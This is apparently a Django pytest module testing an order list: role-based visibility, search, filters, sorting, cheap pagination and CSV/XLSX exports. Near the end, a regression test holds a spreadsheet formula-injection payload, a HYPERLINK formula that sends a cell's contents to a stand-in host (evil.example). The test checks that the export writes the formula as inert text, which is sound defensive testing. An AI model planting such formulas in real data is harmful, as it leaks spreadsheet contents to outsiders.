"""The order list: search, filters, sort and row visibility per role; CSV and XLSX exports of exactly the
filtered rows; and a paginator that never counts the orders table."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.roles import Role
from orders.models import Order
from orders.services import order_set_flags

from ..conftest import advance
from ..factories import CustomerFactory, make_order, staff

pytestmark = pytest.mark.django_db


def listed(response) -> list[int]:
    """The ids of the orders on the rendered page, in display order."""
    assert response.status_code == 200
    return [row.record.pk for row in response.context["table"].page.object_list]


def pks(*orders) -> set[int]:
    return {o.pk for o in orders}


def received_on(order: Order, day) -> Order:
    # Test set-up only: intake stamps `received_at` with now; move it to a chosen day (noon, local time).
    at = timezone.make_aware(timezone.datetime(day.year, day.month, day.day, 12))
    Order.objects.filter(pk=order.pk).update(received_at=at)
    return Order.objects.get(pk=order.pk)


@pytest.fixture
def colleague(team_a):
    return staff(Role.MERCHANDISER, team=team_a[0])


@pytest.fixture
def book(merchandiser, colleague, other_merchandiser):
    """A small order book over two teams, with distinct customers, POs, channels, states and flags."""
    today = timezone.localdate()
    zephyr = CustomerFactory(code="ZEP", name_en="Zephyr Textiles", name_zh="泽风纺织")
    nordic = CustomerFactory(code="NOR", name_en="Nordic Outdoor", name_zh="北欧户外")
    o = {}
    o["zephyr_new"] = received_on(make_order(merchandiser=merchandiser, customer=zephyr, customer_po="ZT-1001"), today)
    o["zephyr_old"] = received_on(
        make_order(merchandiser=merchandiser, customer=zephyr, customer_po="ZT-0999"), today - timedelta(days=40)
    )
    o["nordic_email"] = received_on(
        make_order(merchandiser=merchandiser, customer=nordic, customer_po="NO-55", channel="email"),
        today - timedelta(days=10),
    )
    entered = advance(
        make_order(merchandiser=merchandiser, customer=nordic, customer_po="NO-77"), merchandiser, "confirm", "enter"
    )
    o["entered"] = received_on(entered, today - timedelta(days=5))
    o["colleague"] = received_on(
        make_order(merchandiser=colleague, customer=zephyr, customer_po="ZT-2000"), today - timedelta(days=2)
    )
    o["team_b"] = received_on(
        make_order(merchandiser=other_merchandiser, customer=zephyr, customer_po="ZT-3000"), today - timedelta(days=1)
    )
    order_set_flags(order_id=o["nordic_email"].pk, is_at_risk=True)
    order_set_flags(order_id=o["colleague"].pk, is_overdue=True)
    return {k: Order.objects.get(pk=v.pk) for k, v in o.items()}


# --- who sees what ------------------------------------------------------------------------------


def test_merchandiser_sees_only_their_own_orders(client, merchandiser, book):
    client.force_login(merchandiser)
    rows = listed(client.get(reverse("orders:list")))
    assert set(rows) == pks(book["zephyr_new"], book["zephyr_old"], book["nordic_email"], book["entered"])


def test_supervisor_sees_the_teams_orders(client, supervisor, book):
    client.force_login(supervisor)
    rows = listed(client.get(reverse("orders:list")))
    assert set(rows) == {o.pk for k, o in book.items() if k != "team_b"}


@pytest.mark.parametrize("role_fixture", ["qa_user", "hr_user", "management_user"])
def test_read_only_roles_see_all_orders(client, request, book, role_fixture):
    client.force_login(request.getfixturevalue(role_fixture))
    assert set(listed(client.get(reverse("orders:list")))) == {o.pk for o in book.values()}


def test_staff_without_role_gets_404(client, book):
    client.force_login(staff(None))
    assert client.get(reverse("orders:list")).status_code == 404
    assert client.get(reverse("orders:export", args=["csv"])).status_code == 404


def test_a_filter_cannot_widen_visibility(client, merchandiser, other_merchandiser, book):
    client.force_login(merchandiser)
    response = client.get(reverse("orders:list"), {"merchandiser": other_merchandiser.pk})
    # a merchandiser has no owner filter: the parameter is ignored, and only their own orders show
    assert set(listed(response)) == set(Order.objects.filter(merchandiser=merchandiser).values_list("pk", flat=True))


# --- search -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("ZT-1001", ["zephyr_new"]),
        ("zt-", ["zephyr_new", "zephyr_old", "colleague"]),  # PO prefix, any case
        ("Zephyr", ["zephyr_new", "zephyr_old", "colleague"]),
        ("textiles", ["zephyr_new", "zephyr_old", "colleague"]),
        ("泽风", ["zephyr_new", "zephyr_old", "colleague"]),
        ("NOR", ["nordic_email", "entered"]),  # customer code
        ("  NO-55  ", ["nordic_email"]),
        ("no such thing", []),
    ],
)
def test_search_by_po_and_customer(client, supervisor, book, query, expected):
    client.force_login(supervisor)
    rows = listed(client.get(reverse("orders:list"), {"q": query}))
    assert set(rows) == {book[k].pk for k in expected}


def test_search_by_order_number(client, merchandiser, book):
    client.force_login(merchandiser)
    number = book["entered"].number
    assert re.fullmatch(r"SO-\d{4}-\d{6}", number)
    assert listed(client.get(reverse("orders:list"), {"q": number})) == [book["entered"].pk]
    assert listed(client.get(reverse("orders:list"), {"q": number.lower()})) == [book["entered"].pk]


def test_search_is_bounded(client, merchandiser, book):
    client.force_login(merchandiser)
    response = client.get(reverse("orders:list"), {"q": "x" * 101})
    assert "q" in response.context["filter"].form.errors


# --- filters ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "entered"}, ["entered"]),
        ({"status": "received"}, ["zephyr_new", "zephyr_old", "nordic_email", "colleague"]),
        ({"channel": "email"}, ["nordic_email"]),
        ({"channel": "phone", "status": "received"}, ["zephyr_new", "zephyr_old", "colleague"]),
        ({"is_at_risk": "true"}, ["nordic_email"]),
        ({"is_overdue": "true"}, ["colleague"]),
        ({"is_overdue": "false", "is_at_risk": "false"}, ["zephyr_new", "zephyr_old", "entered"]),
    ],
)
def test_filters(client, supervisor, book, params, expected):
    client.force_login(supervisor)
    assert set(listed(client.get(reverse("orders:list"), params))) == {book[k].pk for k in expected}


def test_filter_by_owner(client, supervisor, colleague, merchandiser, book):
    client.force_login(supervisor)
    assert listed(client.get(reverse("orders:list"), {"merchandiser": colleague.pk})) == [book["colleague"].pk]
    mine = listed(client.get(reverse("orders:list"), {"merchandiser": merchandiser.pk}))
    assert set(mine) == pks(book["zephyr_new"], book["zephyr_old"], book["nordic_email"], book["entered"])


def test_filter_by_customer(client, supervisor, book):
    client.force_login(supervisor)
    nordic = book["entered"].customer
    assert set(listed(client.get(reverse("orders:list"), {"customer": nordic.pk}))) == pks(
        book["nordic_email"], book["entered"]
    )


def test_filter_by_received_date_range(client, supervisor, book):
    client.force_login(supervisor)
    today = timezone.localdate()
    params = {
        "received_from": (today - timedelta(days=10)).isoformat(),
        "received_to": (today - timedelta(days=2)).isoformat(),
    }
    rows = listed(client.get(reverse("orders:list"), params))
    assert set(rows) == pks(book["nordic_email"], book["entered"], book["colleague"])  # both ends included
    rows = listed(client.get(reverse("orders:list"), {"received_from": today.isoformat()}))
    assert rows == [book["zephyr_new"].pk]


def test_invalid_filter_values_do_not_crash(client, supervisor, book):
    client.force_login(supervisor)
    response = client.get(reverse("orders:list"), {"status": "teleported", "received_from": "last tuesday"})
    assert response.status_code == 200
    assert {"status", "received_from"} <= set(response.context["filter"].form.errors)


# --- sort and pages -----------------------------------------------------------------------------


def test_default_sort_is_newest_received_first(client, merchandiser, book):
    client.force_login(merchandiser)
    rows = listed(client.get(reverse("orders:list")))
    assert rows == [book[k].pk for k in ("zephyr_new", "entered", "nordic_email", "zephyr_old")]


@pytest.mark.parametrize(
    ("sort", "key"),
    [
        ("received_at", lambda o: (o.received_at, o.pk)),
        ("customer", lambda o: o.customer.code),
        ("-customer_po", lambda o: o.customer_po),
        ("delivery_date", lambda o: o.delivery_date),
    ],
)
def test_sort(client, merchandiser, book, sort, key):
    client.force_login(merchandiser)
    for name in ("zephyr_old", "nordic_email"):  # make delivery dates differ
        Order.objects.filter(pk=book[name].pk).update(delivery_date=timezone.localdate() + timedelta(days=400))
    rows = listed(client.get(reverse("orders:list"), {"sort": sort}))
    shown = [Order.objects.select_related("customer").get(pk=pk) for pk in rows]
    assert [key(o) for o in shown] == sorted((key(o) for o in shown), reverse=sort.startswith("-"))


def test_pages_without_counting_the_orders_table(client, merchandiser):
    # given more orders than fit on a page
    customer = CustomerFactory()
    for _ in range(27):
        make_order(merchandiser=merchandiser, customer=customer)
    client.force_login(merchandiser)
    # when the first and the second page are shown, with a filter and a sort
    with CaptureQueriesContext(connection) as first_queries:
        first = client.get(reverse("orders:list"), {"status": "received", "sort": "-received_at"})
    with CaptureQueriesContext(connection) as second_queries:
        second = client.get(reverse("orders:list"), {"status": "received", "sort": "-received_at", "page": 2})
    # then 25 + 2 rows, a next link on the first page, and no COUNT over orders_order anywhere
    assert len(listed(first)) == 25
    assert len(listed(second)) == 2
    assert set(listed(first)).isdisjoint(listed(second))
    assert 'rel="next"' in first.content.decode()
    assert 'rel="next"' not in second.content.decode()
    queries = [*first_queries.captured_queries, *second_queries.captured_queries]
    assert any('"orders_order"' in q["sql"] for q in queries)  # the capture did see the list's queries
    for query in queries:
        sql = query["sql"]
        assert not ("COUNT(" in sql.upper() and '"orders_order"' in sql), sql


def test_list_query_count_does_not_grow_with_rows(client, merchandiser):
    customer = CustomerFactory()
    make_order(merchandiser=merchandiser, customer=customer)
    client.force_login(merchandiser)
    client.get(reverse("orders:list"))  # warm caches (content types, sessions)
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("orders:list"))
    for _ in range(10):
        make_order(merchandiser=merchandiser, customer=CustomerFactory())
    with CaptureQueriesContext(connection) as many:
        client.get(reverse("orders:list"))
    assert len(many.captured_queries) == len(few.captured_queries)


@pytest.mark.parametrize("per_page", ["50", "7", "abc"])
def test_page_size_is_one_of_the_offered_sizes(client, merchandiser, per_page):
    client.force_login(merchandiser)
    response = client.get(reverse("orders:list"), {"per_page": per_page})
    assert response.context["per_page"] == (50 if per_page == "50" else 25)


# --- export -------------------------------------------------------------------------------------


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert response["Content-Disposition"].rstrip('"').endswith(".xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def po_set(rows) -> set[str]:
    return {r["Customer PO"] for r in rows}


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({}, ["zephyr_new", "zephyr_old", "nordic_email", "entered", "colleague"]),
        ({"q": "zt-"}, ["zephyr_new", "zephyr_old", "colleague"]),
        ({"status": "received", "channel": "phone"}, ["zephyr_new", "zephyr_old", "colleague"]),
        ({"is_overdue": "true"}, ["colleague"]),
        ({"q": "nothing matches this"}, []),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_holds_exactly_the_filtered_visible_rows(client, supervisor, book, params, expected, fmt):
    # given the supervisor's list with a filter
    client.force_login(supervisor)
    on_screen = set(listed(client.get(reverse("orders:list"), {**params, "per_page": 500})))
    # when exported
    response = client.get(reverse("orders:export", args=[fmt]), params)
    # then the file holds the same orders, once each
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    assert len(rows) == len(on_screen)
    assert po_set(rows) == {book[k].customer_po for k in expected}
    assert on_screen == {book[k].pk for k in expected}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_respects_the_merchandisers_visibility(client, merchandiser, book, fmt):
    client.force_login(merchandiser)
    response = client.get(reverse("orders:export", args=[fmt]))
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    assert po_set(rows) == {"ZT-1001", "ZT-0999", "NO-55", "NO-77"}


def test_export_columns_and_values(client, merchandiser, book):
    client.force_login(merchandiser)
    rows = csv_rows(client.get(reverse("orders:export", args=["csv"]), {"q": "NO-77"}))
    assert list(rows[0]) == [
        "Order",
        "Customer",
        "Customer PO",
        "State",
        "Delivery",
        "Merchandiser",
        "Channel",
        "Received",
    ]
    entered = book["entered"]
    assert rows[0]["Order"] == entered.number
    assert rows[0]["Customer"] == "Nordic Outdoor"
    assert rows[0]["State"] == "Entered"  # the label, not the HTML badge
    assert "<" not in "".join(rows[0].values())


def test_export_is_capped(client, settings, merchandiser, book):
    settings.ORDER_EXPORT_MAX_ROWS = 1
    client.force_login(merchandiser)
    response = client.get(reverse("orders:export", args=["csv"]), {"q": "zt-"})
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('orders:list')}?q=zt-"
    response = client.get(reverse("orders:export", args=["csv"]), {"q": "ZT-1001"})
    assert len(csv_rows(response)) == 1


def test_export_of_unknown_format_is_404(client, merchandiser):
    client.force_login(merchandiser)
    assert client.get(reverse("orders:export", args=["pdf"])).status_code == 404


def test_list_links_to_export_with_the_current_filter(client, merchandiser, book):
    client.force_login(merchandiser)
    body = client.get(reverse("orders:list"), {"q": "ZT", "status": "received"}).content.decode()
    assert f"{reverse('orders:export', args=['csv'])}?q=ZT&amp;status=received" in body
    assert f"{reverse('orders:export', args=['xlsx'])}?q=ZT&amp;status=received" in body


def test_paging_and_sorting_alone_leave_the_filter_form_unbound(client, merchandiser):
    make_order(merchandiser=merchandiser)
    client.force_login(merchandiser)

    assert client.get("/orders/?sort=delivery_date&page=1&per_page=50").context["filter"].is_bound is False
    assert client.get("/orders/?status=received&sort=delivery_date").context["filter"].is_bound is True


@pytest.mark.parametrize("page", ["99999999999999999999", "9" * 400, "-3", "x", "5"])
def test_a_sorted_list_shows_a_page_for_any_page_number(client, merchandiser, page):
    # An OFFSET past a 64-bit integer was a database error (found by tests/security/test_fuzz_forms.py).
    order = make_order(merchandiser=merchandiser)
    client.force_login(merchandiser)

    response = client.get("/orders/", {"sort": "delivery_date", "page": page})

    assert response.status_code == 200
    assert listed(response) == [order.pk]  # past the end: the first page


# --- what the files hold: local times, real Excel dates, Chinese that Excel reads -------------------------

NOON_UTC = timezone.datetime(2026, 3, 2, 4, 5, 6, 789000, tzinfo=UTC)  # 12:05:06 in Shanghai


def test_the_csv_starts_with_a_byte_order_mark_so_excel_reads_chinese_names(client, merchandiser, book):
    merchandiser.preferred_language = "zh-hans"
    merchandiser.save(update_fields=["preferred_language"])
    client.force_login(merchandiser)

    response = client.get(reverse("orders:export", args=["csv"]), {"q": "ZT-1001"})

    assert response.content.startswith(b"\xef\xbb\xbf")
    assert "泽风纺织" in response.content.decode("utf-8-sig")


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_the_csv_shows_received_in_local_time_to_the_minute(client, merchandiser, book, language):
    Order.objects.filter(pk=book["zephyr_new"].pk).update(received_at=NOON_UTC)
    merchandiser.preferred_language = language
    merchandiser.save(update_fields=["preferred_language"])
    client.force_login(merchandiser)

    text = client.get(reverse("orders:export", args=["csv"]), {"q": "ZT-1001"}).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]

    assert row[-1] == "2026-03-02 12:05"
    assert row[4] == book["zephyr_new"].delivery_date.isoformat()


def test_the_xlsx_holds_real_dates_and_local_times(client, merchandiser, book):
    Order.objects.filter(pk=book["zephyr_new"].pk).update(received_at=NOON_UTC)
    client.force_login(merchandiser)

    response = client.get(reverse("orders:export", args=["xlsx"]), {"q": "ZT-1001"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    received = sheet.cell(row=2, column=header.index("Received") + 1)
    delivery = sheet.cell(row=2, column=header.index("Delivery") + 1)

    assert received.value == datetime(2026, 3, 2, 12, 5, 6, 789000)  # naive, Shanghai wall-clock
    assert received.is_date and "h" in received.number_format
    assert delivery.is_date and delivery.value.date() == book["zephyr_new"].delivery_date
    assert sheet.cell(row=2, column=header.index("State") + 1).value == "Received"
    assert sheet.cell(row=2, column=header.index("Channel") + 1).value == "Phone"


INJECTED_PO = '=HYPERLINK("https://evil.example/?d="&B2,"Open PO")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_customer_field_is_exported_as_text(client, merchandiser, fmt):
    """A customer's system set its PO to a formula through the API; the export wrote it live (issue 19)."""
    make_order(merchandiser=merchandiser, customer_po=INJECTED_PO)
    client.force_login(merchandiser)

    response = client.get(reverse("orders:export", args=[fmt]))

    if fmt == "csv":
        assert po_set(csv_rows(response)) == {"'" + INJECTED_PO}
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("Customer PO") + 1)
        assert cell.data_type == "s"
        assert cell.value == "'" + INJECTED_PO
